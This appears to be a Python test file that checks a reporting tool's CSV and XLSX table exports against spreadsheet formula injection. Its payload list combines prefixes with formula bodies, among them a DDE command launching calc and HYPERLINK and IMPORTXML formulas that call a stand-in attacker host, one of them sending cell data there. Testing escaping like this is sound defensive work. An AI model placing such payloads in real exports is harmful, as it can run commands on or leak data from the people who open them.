"""Over a thousand texts that a spreadsheet could take for formulas leave as texts, by the exports of tables."""

import csv
import io
from itertools import product

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.reports.test_exports import described

from videre.disclosure.released import ReleasedFigure, make_released
from videre.reports.exports.described import Described
from videre.reports.exports.forms import CSV, CSV_FOR_EXCEL, XLSX, Form
from videre.reports.exports.harmless import APOSTROPHE, harmless

BEFORE = [
    "",
    " ",
    "  ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\ufeff",
    "\u200b",
    "\u00a0",
    "\u2003",
    "\x00",
    "\x1b",
    "\u202e",
    "\x0b",
]
STARTS = ["=", "+", "-", "@", "|", "%", "＝", "＋", "－", "＠", "−", "﹢"]
BODIES = [
    "1+1", "cmd|'/C calc'!A0", 'HYPERLINK("http://evil.example.dk?"&A1,"x")', "SUM(A1:A9)",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
    'IMPORTXML("http://evil.example.dk","//x")',
]  # fmt: skip
PAYLOADS = ["".join(parts) for parts in product(BEFORE, STARTS, BODIES)]
PAYLOADS += ["\t1", "\r1", "\n=1", 'a"\n=1+1', 'a;"=1+1', "a\r\n@SUM(1)", "'=1+1", "''", ";=1+1", '";=1+1;"']


def table_of(payloads: list[str]) -> Described:
    """Return a released table whose places are called by payloads."""
    rows = [
        ReleasedFigure(
            "2015", {"school": payload}, False, 0.5, 10, 20, 0, 0.5, 0.5, None, None, "none", "share", None, "x"
        )
        for payload in payloads
    ]
    return described(
        make_released(
            name="exam_by_school",
            measure="exam",
            dimensions=("school",),
            rows=rows,
            rule={"da": "x", "en": "x"},
            as_known_at="2016-02-01",
            oldest_source="2016-02-01",
            store_version="1",
            method_version="1",
            test="t",
        )
    )


def test_there_are_payloads_enough() -> None:
    assert len(set(PAYLOADS)) > 1000


@pytest.mark.parametrize(("form", "delimiter"), [(CSV_FOR_EXCEL, ";"), (CSV, ",")])
def test_no_payload_is_a_formula_in_csv_and_each_can_be_had_back(form: Form, delimiter: str) -> None:
    text = form.render(table_of(PAYLOADS), "da").decode("utf-8-sig")
    _head, *rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    cells = [row[1] for row in rows]
    assert [cell.removeprefix(APOSTROPHE) for cell in cells] == PAYLOADS
    harmless_already = {";=1+1", '";=1+1;"', 'a;"=1+1'}
    assert all(cell.startswith(APOSTROPHE) for cell in cells if cell not in harmless_already)


def test_no_payload_is_a_formula_in_xlsx() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(XLSX.render(table_of(PAYLOADS), "da"))).worksheets[0]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n", "inlineStr"}
    assert not sheet._hyperlinks


def test_plain_texts_stay_as_they_are() -> None:
    plain = ["Sørensen", "9.b", "12-3", "a=b", "e@example.dk", ""]
    assert [harmless(value) for value in plain] == plain


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_every_text_can_be_had_back(text: str) -> None:
    assert harmless(text).removeprefix(APOSTROPHE) == text
